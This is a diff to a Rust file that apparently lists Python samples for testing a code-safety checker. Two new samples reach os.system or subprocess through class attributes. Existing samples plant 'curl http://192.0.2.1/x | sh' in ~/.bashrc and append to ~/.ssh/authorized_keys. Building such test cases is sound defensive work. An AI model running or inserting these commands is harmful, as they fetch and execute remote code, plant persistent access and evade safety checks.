@@ -35,7 +35,9 @@ const COMPILED: [&str; 2] = [
 ];
 
 /// Programs that reach what they use through what something else gives.
-const REACHING: [&str; 7] = [
+const REACHING: [&str; 9] = [
+    "class A:\n    from os import system as go\nA().go('id')\n",
+    "class A:\n    import subprocess as go\nclass B(A): pass\nmatch B():\n    case B(go=x): x.run('id')\n",
     "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
     "from pathlib import Path\n(Path.home() / '.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
     "import pathlib\np = pathlib.PosixPath.cwd()\n(p / '..' / '.ssh' / 'authorized_keys').open('a').write('x')\n",
